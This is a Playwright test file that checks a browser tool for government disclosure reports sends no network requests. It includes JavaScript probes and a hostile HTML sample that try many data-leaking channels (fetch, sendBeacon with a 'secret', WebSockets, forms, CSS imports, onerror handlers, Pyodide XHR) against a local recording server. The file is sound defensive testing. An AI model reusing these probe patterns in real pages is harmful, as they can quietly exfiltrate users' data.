"""Nothing leaves the machine: a second live server is the judge of what arrives, whatever is tried."""

from __future__ import annotations

import shutil
from pathlib import Path
from urllib.parse import urlsplit

from playwright.sync_api import Browser, Page

from tests.browser.conftest import Judge, Served
from tests.chromium import MAX_STEP

IN_PAGE = """async (judge) => {
    const tried = [];
    const attempt = async (name, how) => {
        tried.push(name);
        try { await Promise.race([how(), new Promise((resolve) => setTimeout(resolve, 1500))]); } catch {}
    };
    const load = (tag, attributes) => new Promise((resolve) => {
        const element = Object.assign(document.createElement(tag), attributes);
        element.onload = element.onerror = resolve;
        document.body.append(element);
    });
    await attempt("fetch", () => fetch(judge + "fetch"));
    await attempt("no-cors", () => fetch(judge + "no-cors", { mode: "no-cors" }));
    await attempt("xhr", () => { const x = new XMLHttpRequest(); x.open("GET", judge + "xhr", false); x.send(); });
    await attempt("beacon", () => navigator.sendBeacon(judge + "beacon", "secret"));
    await attempt("websocket", () => new Promise((resolve) => {
        const socket = new WebSocket(judge.replace("http", "ws") + "socket");
        socket.onerror = socket.onopen = resolve;
    }));
    await attempt("events", () => new Promise((resolve) => { new EventSource(judge + "events").onerror = resolve; }));
    await attempt("image", () => load("img", { src: judge + "image" }));
    await attempt("script", () => load("script", { src: judge + "script" }));
    await attempt("style", () => load("link", { rel: "stylesheet", href: judge + "style" }));
    await attempt("frame", () => load("iframe", { src: judge + "frame" }));
    await attempt("prefetch", () => load("link", { rel: "prefetch", href: judge + "prefetch" }));
    await attempt("form", () => {
        const form = Object.assign(document.createElement("form"), { action: judge + "form", method: "post", target: "_blank" });
        document.body.append(form);
        form.submit();
    });
    return tried;
}"""

IN_WORKER = """async ([judge, address]) => {
    const attempt = async (how) => {
        try { await Promise.race([how(), new Promise((resolve) => setTimeout(resolve, 1500))]); } catch {}
    };
    await attempt(() => fetch(judge + "fetch"));
    await attempt(() => new Promise((resolve) => {
        const socket = new WebSocket(judge.replace("http", "ws") + "socket");
        socket.onerror = socket.onopen = resolve;
    }));
    await attempt(() => import(judge + "module"));
    const { started } = await import(address);
    const { python } = await started;
    python.globals.set("judge", judge);
    await attempt(() => python.runPython(
        "from js import XMLHttpRequest\\nx = XMLHttpRequest.new()\\nx.open('GET', judge + 'python', False)\\nx.send()"));
    await attempt(() => python.runPythonAsync("from js import fetch\\nawait fetch(judge + 'python-fetch')"));
}"""

HOSTILE = """<!doctype html><html><head><title>甲县2022年政府信息公开工作年度报告</title>
<base href="{judge}"><link rel="preload" href="{judge}preload" as="image"><link rel="stylesheet" href="{judge}style">
<meta http-equiv="refresh" content="0;url={judge}refresh">
<style>@import "{judge}import"; p {{ background: url({judge}css) }}</style>
<script src="{judge}script"></script><script>fetch("{judge}inline")</script></head>
<body onload="fetch('{judge}onload')"><img src="{judge}img" onerror="fetch('{judge}onerror')"><iframe src="{judge}frame"></iframe>
<video src="{judge}video" autoplay></video><svg><image href="{judge}svg"/></svg><object data="{judge}object"></object>
<p>二、主动公开政府信息情况</p><table><tr><td><img src="{judge}cell">1</td></tr></table></body></html>"""


def drop(page: Page, name: str, data: bytes) -> None:
    page.locator("#files").set_input_files({"name": name, "mimeType": "text/html", "buffer": data})
    page.locator("#status", has_text="核对完毕").wait_for()


def test_all_that_is_asked_for_lies_beside_the_page_and_nothing_once_it_is_ready(
    chromium: Browser, served: Served, root: Path
) -> None:
    context = chromium.new_context()
    context.set_default_timeout(MAX_STEP)
    asked: list[str] = []
    context.on("request", lambda request: asked.append(request.url))
    page = context.new_page()
    page.goto(served.address)
    page.locator("#files:enabled").wait_for()
    assert len(asked) > 8
    assert [url for url in asked if not url.startswith((served.address, f"blob:{served.address}", "data:"))] == []
    asked.clear()
    for name in ("qinghe-2022.html", "qinghe-2022.txt"):
        drop(page, name, (root / "examples" / name).read_bytes())
    assert [url for url in asked if urlsplit(url).scheme != "about"] == []
    assert context.cookies() == []
    assert page.evaluate("[localStorage.length, sessionStorage.length]") == [0, 0]
    context.close()


def test_a_hostile_page_asks_for_nothing(page: Page, judge: Judge) -> None:
    drop(page, "甲.html", HOSTILE.format(judge=judge.address).encode())
    page.wait_for_timeout(1000)
    assert judge.arrived == []


def test_what_is_tried_on_purpose_does_not_arrive(chromium: Browser, served: Served, judge: Judge) -> None:
    context = chromium.new_context()
    context.set_default_timeout(MAX_STEP)
    page = context.new_page()
    page.goto(served.address)
    page.locator("#files:enabled").wait_for()
    (worker,) = page.workers
    tried = page.evaluate(IN_PAGE, judge.address)
    worker.evaluate(IN_WORKER, [judge.address, f"{served.address}worker.js"])
    page.wait_for_timeout(1000)
    assert len(tried) == 12
    assert judge.arrived == []
    context.close()


def test_the_judge_sees_what_a_worker_from_a_file_sends(chromium: Browser, site: Path, judge: Judge, tmp_path: Path) -> None:
    """The counter-proof: without the blob the policy does not hold in the worker, so that the tests above can fail."""
    shutil.copytree(site, tmp_path / "check")
    program = tmp_path / "check" / "page.js"
    changed = program.read_text("utf-8").replace(
        'new Worker(address, { type: "module" })', 'new Worker(program, { type: "module" })'
    )
    assert changed != program.read_text("utf-8")
    program.write_text(changed, "utf-8")
    server = Served(tmp_path / "check")
    context = chromium.new_context()
    context.set_default_timeout(MAX_STEP)
    page = context.new_page()
    page.goto(server.address)
    page.locator("#files:enabled").wait_for()
    (worker,) = page.workers
    worker.evaluate(IN_WORKER, [judge.address, f"{server.address}worker.js"])
    page.wait_for_timeout(1000)
    context.close()
    server.close()
    assert {"GET /fetch", "GET /python", "GET /python-fetch"} <= set(judge.arrived)
